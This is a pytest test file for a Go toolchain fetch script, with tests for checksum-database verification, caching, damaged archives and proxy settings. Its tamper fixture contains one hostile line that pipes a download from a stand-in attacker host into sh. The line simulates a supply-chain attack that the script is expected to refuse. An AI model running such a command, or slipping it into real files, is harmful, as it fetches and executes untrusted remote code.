"""scripts/go-toolchain: a Go new enough for the engine's build, this machine's or the toolchain module from the proxy.

A module proxy of files (GOPROXY=file://..., which curl reads as Go does) serves the pinned Pulumi's go.mod, a
toolchain zip and the checksum database's line for it, so the fetch, the check and the unpacking run offline.
The h1: hash the script computes was checked against the real checksum database once (golang.org/toolchain
v0.0.1-go1.26.6.linux-amd64 from proxy.golang.org, 72 MB, 33 s, 240 MB unpacked), not here.
"""

from __future__ import annotations

import base64
import hashlib
import io
import platform
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "scripts" / "go-toolchain"
PIN = re.search(r'^PULUMI_VERSION="([^"]+)"', (ROOT / "scripts" / "pulumi-engine").read_text(), re.M).group(1)
ARCH = {"x86_64": "amd64", "aarch64": "arm64"}.get(platform.machine(), platform.machine())
FAKE_GO = '#!/bin/sh\n[ "$1 $2" = "env GOVERSION" ] && echo go{version}\n'


def h1(archive: bytes) -> str:
    """golang.org/x/mod/sumdb/dirhash.HashZip."""
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        lines = "".join(f"{hashlib.sha256(z.read(n)).hexdigest()}  {n}\n" for n in sorted(z.namelist()))
    return "h1:" + base64.b64encode(hashlib.sha256(lines.encode()).digest()).decode()


def toolchain_zip(version: str, go: str = FAKE_GO) -> bytes:
    prefix = f"golang.org/toolchain@v0.0.1-go{version}.linux-{ARCH}/"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        info = zipfile.ZipInfo(prefix + "bin/go")
        info.external_attr = 0o755 << 16
        z.writestr(info, go.format(version=version))
        z.writestr(prefix + "VERSION", f"go{version}\n")
    return out.getvalue()


def proxy(tmp_path: Path, version: str, *, tamper: bool = False) -> Path:
    """A module proxy of files: the pin's go.mod asking for go VERSION, that toolchain and its checksum line."""
    root = tmp_path / "proxy"
    mod = root / f"github.com/pulumi/pulumi/pkg/v3/@v/v{PIN}.mod"
    mod.parent.mkdir(parents=True)
    mod.write_text(f"module github.com/pulumi/pulumi/pkg/v3\n\ngo {version}\n")
    module_version = f"v0.0.1-go{version}.linux-{ARCH}"
    archive = toolchain_zip(version)
    line = f"golang.org/toolchain {module_version} {h1(archive)}\n"
    if tamper:  # the zip changed after the database recorded it
        archive = toolchain_zip(version, FAKE_GO + "curl -s https://attacker.example/ | sh\n")
    zip_path = root / f"golang.org/toolchain/@v/{module_version}.zip"
    zip_path.parent.mkdir(parents=True)
    zip_path.write_bytes(archive)
    lookup = root / f"sumdb/sum.golang.org/lookup/golang.org/toolchain@{module_version}"
    lookup.parent.mkdir(parents=True)
    lookup.write_text(f"12345\n{line}\ngo.sum database tree\n")
    return root


def run(tmp_path: Path, root: Path, go: str) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp_path / "home"),
        "GOPROXY": f"file://{root}",
        "GO": go,
        "WGSITES_TOOLS_DIR": str(tmp_path / "tools"),
    }
    return subprocess.run([str(SCRIPT)], env=env, capture_output=True, text=True, timeout=60)


def test_no_go_here_fetches_checks_and_unpacks_the_toolchain_module_then_reuses_it(tmp_path: Path) -> None:
    root = proxy(tmp_path, "1.99.1")
    done = run(tmp_path, root, "/bin/false")  # a `go` that is no go: as if none were installed
    assert done.returncode == 0, done.stderr
    go = tmp_path / "tools/go-toolchain/go1.99.1/bin/go"
    assert done.stdout == f"{go}\n"
    assert "/bin/false is go unknown; the engine's build needs go 1.99.1" in done.stderr
    assert subprocess.run([str(go), "env", "GOVERSION"], capture_output=True, text=True).stdout == "go1.99.1\n"
    assert sorted(p.name for p in (tmp_path / "tools/go-toolchain").iterdir()) == ["go1.99.1"]  # no scratch left
    for archive in root.glob("golang.org/toolchain/@v/*.zip"):
        archive.unlink()
    again = run(tmp_path, root, "/bin/false")  # cached: the proxy is not asked for the zip again
    assert (again.returncode, again.stdout) == (0, f"{go}\n"), again.stderr


def test_a_toolchain_whose_hash_differs_from_the_checksum_database_is_refused_and_nothing_kept(tmp_path: Path) -> None:
    done = run(tmp_path, proxy(tmp_path, "1.99.2", tamper=True), "/bin/false")
    assert done.returncode == 1 and done.stdout == ""
    assert re.search(
        r"toolchain@v0\.0\.1-go1\.99\.2\.linux-\w+ from file://\S+ has hash h1:\S+, the checksum database says h1:\S+: not used",
        done.stderr,
    )
    assert list((tmp_path / "tools/go-toolchain").iterdir()) == []


def test_this_machines_go_is_used_when_new_enough(tmp_path: Path) -> None:
    local = tmp_path / "go"
    local.write_text(FAKE_GO.format(version="1.100.0"))
    local.chmod(0o755)
    done = run(tmp_path, proxy(tmp_path, "1.99.1"), str(local))
    assert (done.returncode, done.stdout) == (0, f"{local}\n"), done.stderr
    assert not (tmp_path / "tools/go-toolchain").exists()


def test_a_damaged_zip_is_refused_with_its_reason(tmp_path: Path) -> None:
    root = proxy(tmp_path, "1.99.3")
    archive = next(root.glob("golang.org/toolchain/@v/*.zip"))
    archive.write_bytes(archive.read_bytes().replace(b"echo go", b"echo no"))  # its CRC no longer matches
    done = run(tmp_path, root, "/bin/false")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "from file://" in done.stderr and "is no readable zip (Bad CRC-32 for file" in done.stderr
    assert list((tmp_path / "tools/go-toolchain").iterdir()) == []


@pytest.mark.parametrize("proxy_setting", ["off", "direct"])
def test_no_proxy_to_fetch_from_is_said(tmp_path: Path, proxy_setting: str) -> None:
    done = subprocess.run(
        [str(SCRIPT)],
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GOPROXY": proxy_setting, "GO": "/bin/false"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 1
    assert f"GOPROXY={proxy_setting}: no module proxy to fetch the Go toolchain from; set GOPROXY" in done.stderr
